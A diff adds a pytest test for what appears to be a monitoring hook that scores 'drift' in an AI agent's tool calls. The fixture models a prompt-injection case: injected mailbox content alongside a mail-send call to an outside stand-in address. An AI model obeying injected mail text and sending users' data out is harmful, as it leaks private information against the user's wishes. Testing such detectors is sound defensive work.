@@ -76,3 +76,15 @@ def test_asks_only_inside_and_never_denies():
     inside = verdict(story, "mcp__post__send_mail", {"window": [0.9, 0.9], "drifted": True}, **given)
     assert outside.effect == PASS and inside.effect == ASK and inside.reason.startswith("drift: ")
     assert 0 < ENTER <= 1
+
+
+@pytest.mark.parametrize(("watching", "signals"), [(True, ("drift_detected",)), (False, ())])
+def test_the_signal_can_be_turned_off_and_the_numbers_stay(watching, signals):
+    story = mailbox(INJECTED, "What did Bo write about the roof?")
+    event = Event("PreToolUse", "s", tool="mcp__post__send_mail", facts={"kept:origin": story.rows},
+                  input={"to": "zed@elsewhere.example", "text": "guests"})
+    given = settings()
+    given.context = {**given.context, "risk_signals": {"drift_detection": watching}}
+    said = judge(event, Session("s", {"drift": {"window": [0.9]}}), given)
+    assert said.signals == signals and said.details["drift_score"] > 0.8
+    assert (said.effect == PASS) or watching
